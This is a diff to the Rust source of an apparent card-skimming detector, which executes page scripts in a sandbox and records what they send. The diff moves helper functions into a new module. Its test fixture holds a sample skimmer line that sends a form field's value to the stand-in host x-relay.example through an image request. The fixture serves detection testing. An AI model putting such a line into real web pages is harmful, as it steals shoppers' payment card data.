@@ -16,6 +16,7 @@
 //! same rules, field words and host policy as everywhere else.
 
 use super::engine::{Limits, Outcome, Sandbox, SandboxError};
+use super::page_words;
 use base64::Engine as _;
 use serde::Deserialize;
 use std::time::Duration;
@@ -113,13 +114,14 @@ pub fn observe(
     // The script's own exceptions end its top level, as in a browser; what it set up before
     // (listeners, timers) still runs.
     let mut steps = || -> Result<(), SandboxError> {
-        let hints = serde_json::to_string(&hints(src)).unwrap_or_else(|_| "[]".into());
+        let hints = serde_json::to_string(&page_words::hints(src)).unwrap_or_else(|_| "[]".into());
         sandbox.run(&format!("__skimscan_page.hint({hints})"))?;
         let words =
-            serde_json::to_string(&super::captions::captions(src)).unwrap_or_else(|_| "[]".into());
+            serde_json::to_string(&page_words::captions(src)).unwrap_or_else(|_| "[]".into());
         sandbox.run(&format!("__skimscan_page.captions({words})"))?;
         // Last before the script: from here on, what is made is the script's.
-        let made = serde_json::to_string(&made_ids(src)).unwrap_or_else(|_| "[]".into());
+        let made =
+            serde_json::to_string(&page_words::made_ids(src)).unwrap_or_else(|_| "[]".into());
         sandbox.run(&format!("__skimscan_page.absent({made})"))?;
         sandbox.run(src)?;
         sandbox.drain_jobs(10_000)?;
@@ -150,70 +152,6 @@ pub fn observe(
         Err(e) if result.sends.is_empty() => Err(e),
         _ => Ok(result),
     }
-}
-
-/// Short string literals of the script that could be an element's id, name or class (at
-/// most 64, first seen first): the page answers them with elements (see `hint` in
-/// `emulate.js`).
-fn hints(src: &str) -> Vec<String> {
-    let mut out: Vec<String> = Vec::new();
-    let b = src.as_bytes();
-    let mut i = 0;
-    while i < b.len() && out.len() < 64 {
-        let q = b[i];
-        if q == b'"' || q == b'\'' {
-            let start = i + 1;
-            let mut j = start;
-            while j < b.len() && j - start <= 64 && b[j] != q && b[j] != b'\n' && b[j] != b'\\' {
-                j += 1;
-            }
-            if j < b.len() && b[j] == q && j > start + 1 && j - start <= 62 {
-                let w = &src[start..j];
-                let body = w.trim_start_matches(['#', '.']);
-                if body.starts_with(|c: char| c.is_ascii_alphabetic())
-                    && body
-                        .chars()
-                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '[' | ']'))
-                    && !out.iter().any(|o| o == body)
-                {
-                    out.push(body.to_string());
-                }
-                i = j + 1;
-                continue;
-            }
-        }
-        i += 1;
-    }
-    out
-}
-
-/// Ids the script gives elements it makes itself (`box.id = 'pay-overlay'`,
-/// `setAttribute('id', …)`, `id="…"` in markup it writes), at most 32: the page did not have
-/// them before the script ran (see `absent` in `emulate.js`). `var id = 'x'` is no such id.
-fn made_ids(src: &str) -> Vec<String> {
-    // Bytes and ASCII classes: Unicode `\w` and `[^<>]` make an automaton that takes longer
-    // to build than a small script takes to run.
-    static MADE: std::sync::LazyLock<regex::bytes::Regex> = std::sync::LazyLock::new(|| {
-        regex::bytes::Regex::new(concat!(
-            r#"(?-u)\.id\s*=\s*["'`]([A-Za-z][\w-]{0,62})["'`]"#,
-            r#"|setAttribute\(\s*["']id["']\s*,\s*["']([A-Za-z][\w-]{0,62})["']"#,
-            r#"|<[A-Za-z][\w-]*\s[^<>]*?\bid\s*=\s*\\?["']?([A-Za-z][\w-]{0,62})"#,
-        ))
-        .expect("a valid pattern")
-    });
-    let mut out: Vec<String> = Vec::new();
-    for c in MADE.captures_iter(src.as_bytes()) {
-        if let Some(m) = c.iter().skip(1).flatten().next()
-            && let Ok(id) = std::str::from_utf8(m.as_bytes())
-            && !out.iter().any(|o| o == id)
-        {
-            out.push(id.to_string());
-        }
-        if out.len() >= 32 {
-            break;
-        }
-    }
-    out
 }
 
 /// The sends of `observed` as plain JavaScript, or None when nothing was sent. `flows_only`:
@@ -825,14 +763,9 @@ mod tests {
             if (!document.getElementById('sp-overlay')) throw new Error('lost');
             new Image().src = 'https://x-relay.example/i?c=' + document.getElementById(id).value;
         "#;
-        assert_eq!(made_ids(src), vec!["sp-overlay".to_string()]);
         let obs = observe(src, limits(false), None).unwrap();
         assert_eq!(obs.sends.len(), 1, "{:?}", obs.sends);
         assert!(obs.sends[0].1.ends_with(PAN), "{:?}", obs.sends);
-        assert_eq!(
-            made_ids(r#"el.innerHTML = '<form class="p" id="pay-x"><input id=\"n1\">';"#),
-            vec!["pay-x".to_string(), "n1".to_string()]
-        );
     }
 
     #[test]
